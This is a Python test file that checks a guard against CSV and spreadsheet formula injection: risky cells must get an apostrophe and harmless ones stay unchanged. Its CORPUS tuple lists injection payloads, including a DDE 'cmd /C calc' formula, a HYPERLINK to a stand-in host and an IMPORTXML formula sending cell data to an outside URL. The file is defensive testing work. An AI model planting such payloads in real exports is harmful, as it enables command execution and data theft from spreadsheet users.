from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sgforum.core.spreadsheet import RISKY, guarded, unguarded
from sgforum.reports.tables import Column, Table, csv_text

CORPUS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "\x01=1", "|calc", "=cmd|' /C calc'!A0",
    "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\uff5cx",
    "\ufe62x", "\ufe63x", "\ufe66x", "\ufe6bx", "-", "+62 812", "-1,5 juta", "--1", "-1-1", "+1", "\ttab",
    '=HYPERLINK("http://jahat.example","klik")', '=IMPORTXML(CONCAT("http://x",A1),"//a")',
)  # fmt: skip
HARMLESS = (
    "",
    "Manggar",
    "a=b",
    "1+1",
    "-5",
    "-12.50",
    "42",
    "0.31",
    "Rp5",
    "'sudah",
    "'=1",
    "—",
    "100 %",
    " teks ",
)


@pytest.mark.parametrize("text", CORPUS)
def test_a_cell_that_might_run_gets_an_apostrophe(text):
    cell = guarded(text)
    assert cell[0] == "'"
    assert "\x00" not in cell
    assert "\x01" not in cell


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_stays_as_it_is(text):
    assert guarded(text) == text


@given(st.text())
def test_no_guarded_cell_begins_with_a_risky_sign(text):
    cell = guarded(text)
    begins = cell.lstrip()[:1]
    assert begins not in RISKY or cell.lstrip("-").replace(".", "", 1).isdecimal()
    assert guarded(cell) == cell


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])))
def test_unguarded_gives_back_what_was_guarded(text):
    if not text.startswith("'"):
        assert unguarded(guarded(text)) == text


def test_every_text_of_a_written_csv_is_safe():
    columns = (Column("a", "teks"), Column("b", "bilangan"))
    text = csv_text(Table("uji", "Uji", columns, tuple((cell, -7) for cell in CORPUS)), demo=False)
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(rows) == len(CORPUS)
    assert all(row[0].startswith("'") for row in rows)
    assert {row[1] for row in rows} == {"-7"}
